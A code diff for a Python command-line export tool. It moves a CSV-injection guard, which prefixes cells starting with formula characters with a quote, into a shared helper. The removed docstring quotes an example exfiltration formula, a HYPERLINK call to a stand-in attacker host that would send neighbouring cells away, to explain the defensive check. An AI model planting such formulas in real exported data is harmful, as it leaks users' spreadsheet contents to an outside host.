@@ -19,6 +19,7 @@ import typer
 from rich.markup import escape
 
 from flows.cli.common import ExitCode, LineReport, console, fail, load_settings, out
+from tinradar.text import spreadsheet_text
 
 if TYPE_CHECKING:
     from elasticsearch import Elasticsearch
@@ -202,21 +203,8 @@ CSV_COLUMNS = (
 )
 
 
-#: How a spreadsheet recognises a formula (OWASP "CSV injection"); a tab or CR before one counts too.
-_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-
-
-def _as_text(cell: str) -> str:
-    """A cell that Excel or LibreOffice would run as a formula, made plain text with a leading ``'``.
-
-    Titles and links come from crawled pages: ``=HYPERLINK("https://evil.example/?"&A2,…)``
-    would otherwise become a live link that sends the neighbouring cells away when clicked.
-    """
-    return "'" + cell if cell.startswith(_FORMULA_STARTS) else cell
-
-
 def _csv_row(hit: Hit) -> list[str]:
-    return [_as_text(cell) for cell in _csv_cells(hit)]
+    return [spreadsheet_text(cell) for cell in _csv_cells(hit)]
 
 
 def _csv_cells(hit: Hit) -> list[str]:
